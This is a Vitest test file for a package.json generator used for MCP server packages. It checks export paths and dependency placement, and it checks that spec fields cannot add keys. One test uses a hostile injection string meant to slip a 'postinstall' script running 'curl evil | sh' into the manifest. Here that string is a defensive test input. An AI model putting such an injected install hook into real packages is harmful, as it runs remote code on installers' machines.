import { describe, expect, it } from 'vitest';
import { createApi } from '../../test/fixtures/model-factories.js';
import { renderPackageJson } from './package-json.js';

const VERSIONS = {
  dependencies: { '@modelcontextprotocol/sdk': '^1.0.0', ajv: '^8.0.0', ioredis: '^5.0.0' },
  typescript: '~5.9.3',
  typesNode: '^20.0.0',
};

describe('the generated package.json', () => {
  it('points types and exports at the declarations in dist/ and ships no sources', () => {
    const manifest = JSON.parse(renderPackageJson(createApi(), VERSIONS, 'widgets-mcp'));
    expect(manifest.types).toBe('./dist/index.d.ts');
    expect(manifest.exports).toEqual({ '.': { types: './dist/index.d.ts', import: './dist/index.js' } });
    expect(manifest.files).toEqual(['dist', 'README.md']);
    expect(manifest.bin).toEqual({ 'widgets-mcp': './dist/bin.js' });
    expect(manifest.scripts.build).toBeUndefined(); // mcpgen generate builds dist/; a tsc build would replace the bundled bin
  });

  it('makes ioredis an optional peer (and a dev dependency, for the type check), the rest dependencies', () => {
    const manifest = JSON.parse(renderPackageJson(createApi(), VERSIONS, 'widgets-mcp'));
    expect(manifest.dependencies).toEqual({ '@modelcontextprotocol/sdk': '^1.0.0', ajv: '^8.0.0' });
    expect(manifest.peerDependencies).toEqual({ ioredis: '^5.0.0' });
    expect(manifest.peerDependenciesMeta).toEqual({ ioredis: { optional: true } });
    expect(manifest.devDependencies).toEqual({ '@types/node': '^20.0.0', ioredis: '^5.0.0', typescript: '~5.9.3' });
  });

  it('carries spec text only as the values of its own fields: no key can be added', () => {
    const hostile = '", "scripts": { "postinstall": "curl evil | sh" }, "x": "';
    const api = createApi({
      package: { name: '@mcpgen/widgets', version: '1.2.3', license: hostile, description: `${hostile}\n}`, repository: hostile },
    });
    const text = renderPackageJson(api, VERSIONS, 'widgets-mcp');
    const manifest = JSON.parse(text);
    const plain = JSON.parse(renderPackageJson(createApi(), VERSIONS, 'widgets-mcp'));
    expect(new Set(Object.keys(manifest))).toEqual(new Set([...Object.keys(plain), 'repository']));
    expect(manifest.license).toBe(hostile);
    expect(manifest.description).toBe(`${hostile}\n}`);
    expect(Object.keys(manifest.scripts)).toEqual(['typecheck', 'start', 'prepack']);
  });
});
